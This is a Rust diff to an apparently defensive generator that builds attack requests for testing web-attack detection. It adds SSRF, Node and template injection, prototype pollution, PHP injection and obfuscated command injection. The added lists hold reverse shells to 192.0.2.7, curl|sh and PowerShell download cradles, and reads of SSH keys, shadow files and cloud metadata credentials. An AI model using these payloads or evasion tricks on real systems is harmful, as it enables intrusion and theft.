@@ -52,7 +52,7 @@ type Generator = fn(&mut Rng) -> String;
 
 /// `per_family` attacks of each family, from `seed`.
 pub fn attacks(seed: u64, per_family: usize) -> Vec<Attack> {
-    let families: [(&'static str, Generator); 7] = [
+    let families: [(&'static str, Generator); 11] = [
         ("sqli", sqli),
         ("xss", xss),
         ("lfi", lfi),
@@ -60,6 +60,10 @@ pub fn attacks(seed: u64, per_family: usize) -> Vec<Attack> {
         ("java", java),
         ("nosql", nosql_value),
         ("rce", rce),
+        ("ssrf", ssrf),
+        ("node", node),
+        ("proto", proto_path),
+        ("php", php),
     ];
     let mut out = Vec::new();
     for (index, (family, generate)) in (0u64..).zip(families) {
@@ -68,10 +72,11 @@ pub fn attacks(seed: u64, per_family: usize) -> Vec<Attack> {
         let mut rng = Rng::new(seed ^ (index + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15));
         for _ in 0..per_family {
             let payload = generate(&mut rng);
-            let request = if family == "nosql" {
-                nosql_request(&mut rng, &payload)
-            } else {
-                place(&mut rng, &payload)
+            let request = match family {
+                "nosql" => nosql_request(&mut rng, &payload),
+                "ssrf" => url_request(&mut rng, &payload),
+                "proto" => proto_request(&mut rng, &payload),
+                _ => place(&mut rng, &payload),
             };
             out.push(Attack {
                 family,
@@ -600,10 +605,9 @@ fn entities(rng: &mut Rng, text: &str) -> String {
         .collect()
 }
 
-/// Path traversal: a traversal in one encoding, repeated, then a file of
-/// one of the sensitive families (Unix system files, `/proc`, Windows
-/// drive paths with backslashes, web application secrets, dotfiles).
-fn lfi(rng: &mut Rng) -> String {
+/// A sensitive file of one family (Unix system, Windows system, web
+/// application), and whether it is written with backslashes.
+fn sensitive_file(rng: &mut Rng) -> (&'static str, bool) {
     let unix = [
         "etc/passwd",
         "etc/shadow",
@@ -621,6 +625,18 @@ fn lfi(rng: &mut Rng) -> String {
         "var/log/nginx/error.log",
         "usr/local/etc/php.ini",
         "etc/nginx/nginx.conf",
+        "etc/apache2/apache2.conf",
+        "etc/mysql/my.cnf",
+        "etc/ssh/sshd_config",
+        "etc/os-release",
+        "var/lib/mysql/mysql/user.MYD",
+        "var/mail/root",
+        "var/spool/cron/crontabs/root",
+        "usr/local/apache2/conf/httpd.conf",
+        "opt/lampp/etc/httpd.conf",
+        "sys/class/net/eth0/address",
+        "root/.bash_history",
+        "home/admin/.profile",
     ];
     let windows = [
         "windows/win.ini",
@@ -630,6 +646,15 @@ fn lfi(rng: &mut Rng) -> String {
         "inetpub/wwwroot/web.config",
         "windows/repair/sam",
         "windows/panther/unattend.xml",
+        "windows/system32/inetsrv/config/applicationHost.config",
+        "sysprep.inf",
+        "users/administrator/ntuser.dat",
+        "programdata/mysql/my.ini",
+        "xampp/apache/conf/httpd.conf",
+        "windows/debug/netsetup.log",
+        "windows/system32/config/regback/sam",
+        "program files/mysql/my.ini",
+        "winnt/system32/cmd.exe",
     ];
     let web = [
         "web.config",
@@ -649,11 +674,18 @@ fn lfi(rng: &mut Rng) -> String {
         ".svn/entries",
         "composer.json",
     ];
-    let (file, windows_style) = match rng.below(3) {
+    match rng.below(3) {
         0 => (rng.pick(&unix), false),
         1 => (rng.pick(&windows), true),
         _ => (rng.pick(&web), rng.chance(30)),
-    };
+    }
+}
+
+/// Path traversal: a traversal in one encoding, repeated, then a file of
+/// one of the sensitive families (Unix system files, `/proc`, Windows
+/// drive paths with backslashes, web application secrets, dotfiles).
+fn lfi(rng: &mut Rng) -> String {
+    let (file, windows_style) = sensitive_file(rng);
     let up = rng.pick(&[
         "../",
         "..\\",
@@ -678,10 +710,10 @@ fn lfi(rng: &mut Rng) -> String {
         file.to_owned()
     };
     let start = match rng.below(6) {
-        0 if windows_style => rng
-            .pick(&["c:\\", "C:/", "c:\\\\", "\\\\?\\c:\\"])
+        0 | 3 if windows_style => rng
+            .pick(&["c:\\", "C:/", "c:\\\\", "\\\\?\\c:\\", "D:\\"])
             .to_owned(),
-        1 if !windows_style => "/".to_owned(),
+        1 | 3 if !windows_style => "/".to_owned(),
         2 => rng.pick(&["file:///", "file://localhost/"]).to_owned(),
         _ => up.repeat(depth),
     };
@@ -808,34 +840,30 @@ fn java(rng: &mut Rng) -> String {
     }
 }
 
-/// Unix and Windows command injection: a separator, a command with its
-/// arguments, in several quoting and substitution styles.
+/// Unix and Windows command injection from the shell grammar: a context
+/// the value closes, a separator, a command of one family with its
+/// arguments, the command word obfuscated one of the ways a shell undoes
+/// (quotes, backslashes, empty variables, globs, absolute paths, brace
+/// expansion, `cmd` carets) and blanks written as `${IFS}` and the like.
 fn rce(rng: &mut Rng) -> String {
-    let sep = rng.pick(&[";", "|", "||", "&&", "&", "\n", "`", "$("]);
-    let cmd = rng.pick(&[
-        "cat /etc/passwd",
-        "id",
-        "whoami",
-        "uname -a",
-        "ls -la /",
-        "wget http://x.example/s -O /tmp/s",
-        "curl -s x.example|sh",
-        "nc -e /bin/sh x.example 4444",
-        "ping -c 3 127.0.0.1",
-        "sleep 5",
-        "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
-        "powershell -enc SQBFAFgA",
-        "cmd /c dir",
-        "type c:\\windows\\win.ini",
-        "python -c 'import os;os.system(\"id\")'",
-        "echo $PATH",
-        "rm -rf /tmp/x",
-        "net user",
+    if rng.chance(25) {
+        return windows_rce(rng);
+    }
+    let sep = rng.pick(&[
+        ";", "|", "||", "&&", "&", "\n", "`", "$(", "\r\n", "; ", " | ", " && ",
     ]);
-    let cmd = match rng.below(4) {
-        0 => cmd.replace(' ', "${IFS}"),
-        1 => cmd.replacen('a', "'a'", 1),
-        _ => cmd.to_owned(),
+    let (word, args) = unix_command(rng);
+    let blank = rng.pick(&[" ", " ", " ", "${IFS}", "$IFS$9", "\t", "${IFS%?}"]);
+    let command = if args.is_empty() {
+        obfuscate_word(rng, word)
+    } else if rng.chance(10) {
+        format!("{{{word},{}}}", args.replace(' ', ","))
+    } else {
+        format!(
+            "{}{blank}{}",
+            obfuscate_word(rng, word),
+            args.replace(' ', blank)
+        )
     };
     let close = match sep {
         "`" => "`",
@@ -843,7 +871,149 @@ fn rce(rng: &mut Rng) -> String {
         _ => "",
     };
     format!(
-        "{}{sep}{cmd}{close}",
+        "{}{sep}{command}{close}",
+        rng.pick(&[
+            "1",
+            "x",
+            "",
+            "127.0.0.1",
+            "a.txt",
+            "1'",
+            "x\"",
+            "foo.example"
+        ])
+    )
+}
+
+/// A Unix command word and its arguments, from one family: reading files,
+/// recon, fetching, reverse shells, interpreters, file changes, timing.
+fn unix_command(rng: &mut Rng) -> (&'static str, &'static str) {
+    let families: [&[(&str, &str)]; 7] = [
+        &[
+            ("cat", "/etc/passwd"),
+            ("tac", "/etc/shadow"),
+            ("head", "-n 5 /etc/hosts"),
+            ("tail", "/var/log/auth.log"),
+            ("more", "/etc/issue"),
+            ("nl", "/proc/self/environ"),
+            ("less", "~/.ssh/id_rsa"),
+            ("xxd", "/etc/passwd"),
+        ],
+        &[
+            ("id", ""),
+            ("whoami", ""),
+            ("uname", "-a"),
+            ("hostname", ""),
+            ("ifconfig", ""),
+            ("ps", "aux"),
+            ("ls", "-la /"),
+            ("env", ""),
+        ],
+        &[
+            ("wget", "http://x.example/s -O /tmp/s"),
+            ("curl", "-s http://x.example/s -o /tmp/s"),
+            ("curl", "x.example|sh"),
+            ("tftp", "-i 192.0.2.7 get s"),
+        ],
+        &[
+            ("nc", "-e /bin/sh 192.0.2.7 4444"),
+            ("ncat", "192.0.2.7 4444 -e /bin/bash"),
+            ("bash", "-i >& /dev/tcp/192.0.2.7/4444 0>&1"),
+            ("socat", "tcp:192.0.2.7:4444 exec:sh"),
+            ("telnet", "192.0.2.7 4444"),
+        ],
+        &[
+            ("python", "-c 'import os;os.system(\"id\")'"),
+            ("python3", "-c 'import pty;pty.spawn(\"sh\")'"),
+            ("perl", "-e 'exec \"/bin/sh\"'"),
+            ("php", "-r 'system(\"id\");'"),
+            ("ruby", "-e 'exec \"id\"'"),
+            ("sh", "-c id"),
+        ],
+        &[
+            ("rm", "-rf /tmp/x"),
+            ("chmod", "+x /tmp/s"),
+            ("echo", "x > /var/www/html/s.php"),
+            ("touch", "/tmp/pwned"),
+            ("crontab", "-l"),
+        ],
+        &[
+            ("sleep", "5"),
+            ("ping", "-c 3 127.0.0.1"),
+            ("nslookup", "x.example"),
+            ("dig", "x.example"),
+        ],
+    ];
+    let family = families[rng.below(families.len())];
+    family[rng.below(family.len())]
+}
+
+/// A command word written as a shell reads it back to the same word.
+fn obfuscate_word(rng: &mut Rng, word: &str) -> String {
+    // Every word has two letters or more: both halves are non-empty.
+    let (a, b) = word.split_at(1 + rng.below(word.len() - 1));
+    match rng.below(10) {
+        0 => format!("{a}'{b}'"),
+        1 => format!("{a}\"\"{b}"),
+        2 => format!("{a}\\{b}"),
+        3 => format!("{a}$@{b}"),
+        4 => format!("{a}${{u}}{b}"),
+        5 => format!("/bin/{word}"),
+        6 => format!("/usr/bin/{word}"),
+        7 => {
+            // A glob matching the word: some letters as `?`.
+            let glob: String = word
+                .chars()
+                .enumerate()
+                .map(|(i, c)| if i % 2 == 1 { '?' } else { c })
+                .collect();
+            format!("/???/{glob}")
+        }
+        _ => word.to_owned(),
+    }
+}
+
+/// Windows `cmd` and `PowerShell` injection: `&`, `|`, carets, quotes,
+/// environment variables, encoded commands, download cradles.
+fn windows_rce(rng: &mut Rng) -> String {
+    let sep = rng.pick(&["&", "&&", "|", "||", "\r\n", " & ", " | "]);
+    let command = rng.pick(&[
+        "whoami",
+        "net user",
+        "net localgroup administrators",
+        "ipconfig /all",
+        "systeminfo",
+        "tasklist",
+        "type c:\\windows\\win.ini",
+        "dir c:\\",
+        "cmd /c whoami",
+        "%COMSPEC% /c whoami",
+        "powershell -enc SQBFAFgA",
+        "powershell -nop -w hidden -c whoami",
+        "certutil -urlcache -split -f http://x.example/s.exe s.exe",
+        "IEX(New-Object Net.WebClient).DownloadString('http://x.example/a')",
+        "bitsadmin /transfer j http://x.example/s.exe c:\\s.exe",
+        "wmic process call create calc",
+    ]);
+    let (word, rest) = command.split_once(' ').unwrap_or((command, ""));
+    let word = match rng.below(4) {
+        0 if !word.starts_with('%') => {
+            // `cmd` drops a caret before any character.
+            let mut out = String::new();
+            for (i, c) in word.chars().enumerate() {
+                if i > 0 && i % 2 == 0 {
+                    out.push('^');
+                }
+                out.push(c);
+            }
+            out
+        }
+        1 if word.len() > 2 => format!("{}\"\"{}", &word[..2], &word[2..]),
+        _ => word.to_owned(),
+    };
+    let space = if rest.is_empty() { "" } else { " " };
+    format!(
+        "{}{sep}{word}{space}{rest}",
         rng.pick(&["1", "x", "", "127.0.0.1", "a.txt"])
     )
 }
@@ -884,5 +1054,323 @@ fn nosql_request(rng: &mut Rng, op: &str) -> Request<'static> {
                 serde_json::json!({ field: inner }).to_string(),
             )
         }
+    }
+}
+
+/// A host that is this machine, the internal network or a metadata
+/// service, in one of its spellings.
+fn ssrf_host(rng: &mut Rng) -> String {
+    match rng.below(4) {
+        0 => rng
+            .pick(&[
+                "127.0.0.1",
+                "2130706433",
+                "0x7f000001",
+                "0x7f.0x0.0x0.0x1",
+                "0177.0.0.1",
+                "017700000001",
+                "127.1",
+                "127.0.1",
+                "127.000.000.001",
+                "0",
+                "0.0.0.0",
+                "[::1]",
+                "[::]",
+                "[0:0:0:0:0:0:0:1]",
+                "[::ffff:127.0.0.1]",
+                "[::ffff:7f00:1]",
+                "[0:0:0:0:0:ffff:127.0.0.1]",
+                "127.127.127.127",
+            ])
+            .to_owned(),
+        1 => rng
+            .pick(&[
+                "169.254.169.254",
+                "2852039166",
+                "0xa9fea9fe",
+                "0251.0376.0251.0376",
+                "[fd00:ec2::254]",
+                "metadata.google.internal",
+                "100.100.100.200",
+                "[::ffff:169.254.169.254]",
+            ])
+            .to_owned(),
+        2 => rng
+            .pick(&[
+                "localhost",
+                "LOCALHOST",
+                "localhost.localdomain",
+                "localhost4",
+                "ip6-localhost",
+                "host.docker.internal",
+                "gateway.docker.internal",
+                "redis.default.svc.cluster.local",
+                "db.internal",
+                "api.localhost",
+                "localtest.me",
+                "lvh.me",
+                "127.0.0.1.nip.io",
+                "7f000001.sslip.io",
+            ])
+            .to_owned(),
+        _ => rng
+            .pick(&[
+                "10.0.0.5",
+                "192.168.1.1",
+                "172.16.0.10",
+                "172.31.255.1",
+                "10.1.2.3",
+            ])
+            .to_owned(),
+    }
+}
+
+/// SSRF: a URL to this host, the internal network or a cloud metadata
+/// service, the host spelt one of the ways URL parsers accept (decimal,
+/// hex, octal, short and mixed IPv4 forms, IPv6 loopback and mapped forms,
+/// local and internal names, wildcard DNS to 127.0.0.1), in one of the
+/// schemes fetchers speak.
+fn ssrf(rng: &mut Rng) -> String {
+    let scheme = rng.pick(&[
+        "http://",
+        "https://",
+        "http://",
+        "gopher://",
+        "dict://",
+        "ftp://",
+        "ldap://",
+        "tftp://",
+        "HTTP://",
+        "sftp://",
+    ]);
+    let host = ssrf_host(rng);
+    let host = if rng.chance(15) {
+        format!(
+            "{}@{host}",
+            rng.pick(&["user", "user:pass", "x.example.com", "evil.example"])
+        )
+    } else {
+        host
+    };
+    let port = rng.pick(&["", "", ":80", ":6379", ":11211", ":8080", ":22", ":2375"]);
+    let path = rng.pick(&[
+        "/",
+        "/admin",
+        "/latest/meta-data/iam/security-credentials/",
+        "/computeMetadata/v1/",
+        "/_INFO",
+        "/_%0D%0ASET%20x%201%0D%0A",
+        "/stat",
+        "",
+        "/server-status",
+    ]);
+    if rng.chance(10) {
+        return format!(
+            "file://{}",
+            rng.pick(&["/etc/passwd", "localhost/etc/hosts", "/proc/self/environ"])
+        );
+    }
+    format!("{scheme}{host}{port}{path}")
+}
+
+/// A URL placed where applications take one (a webhook, an image to
+/// fetch, a redirect), as a query, form or JSON value.
+fn url_request(rng: &mut Rng, url: &str) -> Request<'static> {
+    let name = rng.pick(&[
+        "url",
+        "uri",
+        "target",
+        "webhook",
+        "image_url",
+        "feed",
+        "callback",
+        "dest",
+        "next",
+    ]);
+    match rng.below(3) {
+        0 => Request::from_target("GET", format!("/fetch?{name}={}", encode(url, "%20"))),
+        1 => Request::new("POST", "/fetch").body(
+            "application/x-www-form-urlencoded",
+            format!("{name}={}", encode(url, "+")),
+        ),
+        _ => Request::new("POST", "/api/fetch").body(
+            "application/json",
+            serde_json::json!({ name: url }).to_string(),
+        ),
+    }
+}
+
+/// Node.js and template injection: reaching `child_process` or `process`
+/// through `require`, `process.mainModule`, the `Function` constructor,
+/// node-serialize's function marker, and server-side templates reaching
+/// the runtime; spacing and quote styles varied.
+fn node(rng: &mut Rng) -> String {
+    let q = rng.pick(&["'", "\"", "`"]);
+    let sp = rng.pick(&["", " ", "  "]);
+    let module = rng.pick(&["child_process", "fs", "net", "vm"]);
+    let call = rng.pick(&[
+        "exec('id')",
+        "execSync('id')",
+        "spawn('sh')",
+        "readFileSync('/etc/passwd')",
+        "runInNewContext('1')",
+    ]);
+    match rng.below(7) {
+        0 => format!("require({sp}{q}{module}{q}{sp}).{call}"),
+        1 => format!("process.mainModule.require({q}{module}{q}).{call}"),
+        2 => format!(
+            "{}.constructor.constructor({q}return process{q})()",
+            rng.pick(&["this", "[]", "''", "{}", "(function(){})", "Object"])
+        ),
+        3 => format!("new Function({q}return process.env{q})()"),
+        4 => format!("_$$ND_FUNC$$_function(){{require({q}child_process{q}).exec({q}id{q})}}()"),
+        5 => format!("global.process.mainModule.constructor._load({q}{module}{q}).{call}"),
+        _ => rng
+            .pick(&[
+                "{{constructor.constructor('return process')().env}}",
+                "{{''.__class__.__mro__[1].__subclasses__()}}",
+                "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
+                "{{self._TemplateReference__context.cycler.__init__.__globals__.os}}",
+                "${T(java.lang.Runtime).getRuntime().exec('id')}",
+                "<%= require('child_process').execSync('id') %>",
+                "#{7*7}",
+                "{{7*7}}",
+                "${{7*7}}",
+                "{php}system('id');{/php}",
+                "{{request.application.__globals__.__builtins__.__import__('os')}}",
+                "{% import os %}{{ os.system('id') }}",
+            ])
+            .to_owned(),
+    }
+}
+
+/// A prototype pollution path: `__proto__` or `constructor.prototype`,
+/// in the bracket, dot or JSON form (the request builder places it).
+fn proto_path(rng: &mut Rng) -> String {
+    let property = rng.pick(&[
+        "isAdmin",
+        "admin",
+        "role",
+        "polluted",
+        "toString",
+        "shell",
+        "NODE_OPTIONS",
+    ]);
+    let root = rng.pick(&[
+        "__proto__",
+        "constructor.prototype",
+        "__proto__",
+        "constructor[prototype]",
+    ]);
+    format!("{root}.{property}")
+}
+
+/// Places a prototype pollution path as a query or form name (`a[b][c]=`
+/// or `a.b.c=`) or as JSON keys.
+fn proto_request(rng: &mut Rng, path: &str) -> Request<'static> {
+    let parts: Vec<String> = path
+        .replace('[', ".")
+        .replace(']', "")
+        .split('.')
+        .map(str::to_owned)
+        .collect();
+    let value = rng.pick(&["1", "true", "--require /proc/self/environ", "x"]);
+    let bracketed = || {
+        let mut name = parts[0].clone();
+        for part in &parts[1..] {
+            let _ = write!(name, "[{part}]");
+        }
+        name
+    };
+    match rng.below(4) {
+        0 => Request::from_target(
+            "GET",
+            format!("/settings?{}={}", bracketed(), encode(value, "%20")),
+        ),
+        1 => Request::new("POST", "/settings").body(
+            "application/x-www-form-urlencoded",
+            format!("{}={}", encode(&bracketed(), "+"), encode(value, "+")),
+        ),
+        2 => Request::from_target(
+            "GET",
+            format!("/settings?{}={}", parts.join("."), encode(value, "%20")),
+        ),
+        _ => {
+            let mut json = serde_json::json!(value);
+            for part in parts.iter().rev() {
+                json = serde_json::json!({ part.as_str(): json });
+            }
+            Request::new("POST", "/api/settings").body("application/json", json.to_string())
+        }
+    }
+}
+
+/// PHP code injection: a dangerous function called the ways PHP allows
+/// (any case, blanks and comments before the parenthesis, a namespace
+/// backslash, the name built from strings or held in a variable or a
+/// superglobal, callbacks taking the name), with or without an open tag.
+fn php(rng: &mut Rng) -> String {
+    let function = rng.pick(&[
+        "system",
+        "exec",
+        "passthru",
+        "shell_exec",
+        "popen",
+        "proc_open",
+        "eval",
+        "assert",
+        "include",
+        "file_get_contents",
+        "file_put_contents",
+        "base64_decode",
+        "phpinfo",
+        "pcntl_exec",
+        "create_function",
+    ]);
+    let arg = rng.pick(&[
+        "'id'",
+        "\"id\"",
+        "$_GET['c']",
+        "'/etc/passwd'",
+        "base64_decode('aWQ=')",
+        "''",
+        "$_POST[0]",
+    ]);
+    let call = match rng.below(8) {
+        0 => format!("{}({arg})", case(rng, function)),
+        1 => format!(
+            "{function}{}({arg})",
+            rng.pick(&[" ", "  ", "/**/", "\t", "#x\n", "//x\n"])
+        ),
+        2 => format!("\\{function}({arg})"),
+        3 => {
+            let (a, b) = function.split_at(function.len() / 2);
+            format!("(\"{a}\".\"{b}\")({arg})")
+        }
+        4 => format!("$f='{function}';$f({arg})"),
+        5 => format!(
+            "{}('{function}',{arg})",
+            rng.pick(&[
+                "call_user_func",
+                "array_map",
+                "call_user_func_array",
+                "usort",
+                "register_shutdown_function"
+            ])
+        ),
+        6 => rng
+            .pick(&[
+                "$_GET['a']($_GET['b'])",
+                "$_REQUEST[0]($_REQUEST[1])",
+                "${'_GET'}[0](1)",
+                "`id`",
+            ])
+            .to_owned(),
+        _ => format!("@{function}({arg})"),
+    };
+    match rng.below(4) {
+        0 => format!("<?php {call}; ?>"),
+        1 => format!("<?={call}?>"),
+        _ => format!("{call};"),
     }
 }
